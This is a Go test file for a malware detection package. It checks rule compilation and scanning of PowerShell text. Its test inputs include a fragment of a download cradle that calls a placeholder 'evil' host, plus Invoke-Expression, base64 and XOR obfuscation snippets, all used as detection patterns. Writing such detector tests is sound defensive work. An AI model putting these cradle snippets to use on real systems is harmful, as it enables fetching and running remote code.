package detect_test

import (
	"context"
	"testing"

	"github.com/minusone-go/minusone/detect"
)

func ruleNames(matches []detect.RuleMatch) []string {
	names := make([]string, len(matches))
	for i, m := range matches {
		names[i] = m.Rule
	}
	return names
}

func contains(names []string, name string) bool {
	for _, n := range names {
		if n == name {
			return true
		}
	}
	return false
}

func TestScanMatchesLiteralText(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "downloadstring",
			Meta: map[string]string{"severity": "high"},
			Strings: []*detect.StringDef{
				{Name: "$s1", Value: detect.TextString{Value: "DownloadString"}},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, `(New-Object Net.WebClient).DownloadString("http://evil")`)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !contains(ruleNames(matches), "downloadstring") {
		t.Fatalf("expected downloadstring rule to match, got %+v", matches)
	}
}

func TestScanRespectsNocase(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "invoke-expr",
			Strings: []*detect.StringDef{
				{Name: "$s1", Value: detect.TextString{Value: "invoke-expression"}, Nocase: true},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, "IEX (IEX-HELPER); Invoke-Expression $x")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !contains(ruleNames(matches), "invoke-expr") {
		t.Fatalf("expected nocase match, got %+v", matches)
	}
}

func TestScanDoesNotMatchWrongCaseWithoutNocase(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "exact-case",
			Strings: []*detect.StringDef{
				{Name: "$s1", Value: detect.TextString{Value: "FromBase64String"}},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, "[convert]::frombase64string($x)")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if contains(ruleNames(matches), "exact-case") {
		t.Fatalf("did not expect case-sensitive match, got %+v", matches)
	}
}

func TestScanMatchesRegex(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "b64-blob",
			Strings: []*detect.StringDef{
				{Name: "$r1", Value: detect.RegexString{Pattern: `[A-Za-z0-9+/]{40,}={0,2}`}},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, "$x = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w'")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !contains(ruleNames(matches), "b64-blob") {
		t.Fatalf("expected regex match, got %+v", matches)
	}
}

func TestScanReturnsNoMatchesForCleanText(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "downloadstring",
			Strings: []*detect.StringDef{
				{Name: "$s1", Value: detect.TextString{Value: "DownloadString"}},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, "Get-Process | Where-Object { $_.CPU -gt 10 }")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if len(matches) != 0 {
		t.Fatalf("expected no matches, got %+v", matches)
	}
}

func TestScanMultipleStringsOneRule(t *testing.T) {
	rules, err := detect.Compile([]*detect.Rule{
		{
			Name: "obfuscation-combo",
			Strings: []*detect.StringDef{
				{Name: "$s1", Value: detect.TextString{Value: "-bxor"}, Nocase: true},
				{Name: "$s2", Value: detect.TextString{Value: "-join"}, Nocase: true},
			},
		},
	})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}

	matches, err := detect.Scan(context.Background(), rules, "$a -bxor $b; $c = $d -join ''")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if len(matches) != 1 {
		t.Fatalf("expected one rule match, got %+v", matches)
	}
	if len(matches[0].Strings) != 2 {
		t.Fatalf("expected both strings to match, got %+v", matches[0].Strings)
	}
}

func TestCompileSkipsInvalidRegexWhenRequested(t *testing.T) {
	rules, err := detect.CompileWithOptions([]*detect.Rule{
		{
			Name: "bad-regex",
			Strings: []*detect.StringDef{
				{Name: "$r1", Value: detect.RegexString{Pattern: "(unterminated"}},
			},
		},
	}, detect.CompileOptions{SkipInvalidRegex: true})
	if err != nil {
		t.Fatalf("CompileWithOptions: %v", err)
	}
	if len(rules.Warnings()) == 0 {
		t.Fatalf("expected a warning for the invalid regex")
	}
}

func TestCompileFailsOnInvalidRegexByDefault(t *testing.T) {
	_, err := detect.Compile([]*detect.Rule{
		{
			Name: "bad-regex",
			Strings: []*detect.StringDef{
				{Name: "$r1", Value: detect.RegexString{Pattern: "(unterminated"}},
			},
		},
	})
	if err == nil {
		t.Fatalf("expected an error for invalid regex")
	}
}
